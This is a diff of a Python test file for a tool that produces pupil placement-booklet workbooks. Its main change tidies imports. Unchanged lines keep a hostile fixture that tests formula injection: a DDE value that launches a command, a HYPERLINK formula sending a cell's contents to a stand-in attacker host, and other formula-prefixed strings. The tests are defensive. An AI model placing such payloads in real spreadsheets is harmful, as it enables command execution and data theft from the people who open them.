@@ -2,8 +2,16 @@
 import pytest
 from openpyxl import load_workbook
 
-from scenario_lib.pfmp import build_booklets, read_class_list, read_filled_workbook, write_booklet_workbook
+from scenario_lib.pfmp import (
+    Pupil,
+    build_booklets,
+    read_class_list,
+    read_filled_workbook,
+    write_booklet_workbook,
+)
+from scenario_lib.pfmp.booklet import booklet_id
 from scenario_lib.pfmp.workbook import GridImportError
+from tests.sheetcheck import live_xlsx_cells, xlsx_texts
 
 
 @pytest.fixture
@@ -80,9 +88,6 @@ def test_not_a_workbook(tmp_path, ref, class_list):
 
 # --- attacks: teacher text in the workbook, forged hidden sheet, oversize sheets ---------------------------
 
-from scenario_lib.pfmp import Pupil  # noqa: E402
-from scenario_lib.pfmp.booklet import booklet_id  # noqa: E402
-from tests.sheetcheck import live_xlsx_cells, xlsx_texts  # noqa: E402
 
 HOSTILE = Pupil(last_name="=cmd|' /C calc'!A0", first_name="+1+1", grade="1MCVB",
                 company='=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")', tutor="@SUM(1)\x1b")
@@ -116,14 +121,14 @@ def _meta(path, key, value):
 
 
 def test_a_grid_pointing_at_another_pupils_booklet_is_refused(two_grids, ref):
-    pupils, (martin, durand, _) = two_grids
+    pupils, (_, durand, _) = two_grids
     _meta(durand, "livret", booklet_id("premiere", pupils[0]))
     with pytest.raises(GridImportError, match="feuille cachée a été modifiée .* au lieu de celui de DURAND Léa"):
         read_filled_workbook(durand, ref, pupils)
 
 
 def test_a_grid_claiming_another_pupil_is_refused_by_its_visible_sheet(two_grids, ref):
-    pupils, (martin, durand, _) = two_grids
+    pupils, (_, durand, _) = two_grids
     wb = load_workbook(durand)
     meta = {r[0].value: r[1] for r in wb["_spirale"].iter_rows()}
     meta["eleve"].value, meta["livret"].value = pupils[0].key, booklet_id("premiere", pupils[0])
